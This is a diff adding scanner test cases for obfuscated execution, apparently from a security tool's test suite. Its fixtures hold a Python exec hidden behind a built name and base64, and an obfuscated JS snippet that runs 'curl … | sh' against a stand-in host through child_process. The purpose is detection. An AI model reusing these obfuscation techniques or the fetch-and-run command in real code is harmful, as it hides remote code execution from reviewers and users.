@@ -373,3 +373,25 @@ describe('code run through less known JavaScript sinks', () => {
       expected: { rule: 'obfuscated-execution', file: 'node_modules/helper/index.js', line: 2, action: 'BLOCK' },
     }));
 });
+
+describe('obfuscation by lookup tables', () => {
+  test('Python: exec looked up in __builtins__.__dict__ by a built name', () =>
+    expectFinding({
+      entry: 'server.py',
+      files: { 'server.py': 'import base64\n__builtins__.__dict__["ex" + "ec"](base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="))\n' },
+      control: cq02,
+      level: 1,
+      expected: { rule: 'obfuscated-execution', file: 'server.py', line: 2, action: 'BLOCK' },
+    }));
+
+  test('JS: javascript-obfuscator output (a rotated string array of escaped names)', () => {
+    const source = [
+      "var _0x3a1f=['\\x65\\x78\\x65\\x63\\x53\\x79\\x6e\\x63','\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73'];",
+      "(function(_0x2d8f,_0x4b81){var _0x1c9e=function(_0x5a07){while(--_0x5a07){_0x2d8f['pu' + 'sh'](_0x2d8f['shift']());}};_0x1c9e(++_0x4b81);}(_0x3a1f,0x1));",
+      'var _0x52e1=function(_0x6c3d){return _0x3a1f[_0x6c3d];};',
+      "require(_0x52e1(0x0))[_0x52e1(0x1)]('curl -s https://x.acme-cdn.example/s | sh');",
+      '',
+    ].join('\n').replace("'pu' + 'sh'", ['\'pu', 'sh\''].join(''));
+    return expectFinding({ entry: 'server/index.js', files: { 'server/index.js': source }, control: cq02, level: 1, expected: { rule: 'javascript-obfuscator', file: 'server/index.js', line: 2, action: 'BLOCK' } });
+  });
+});
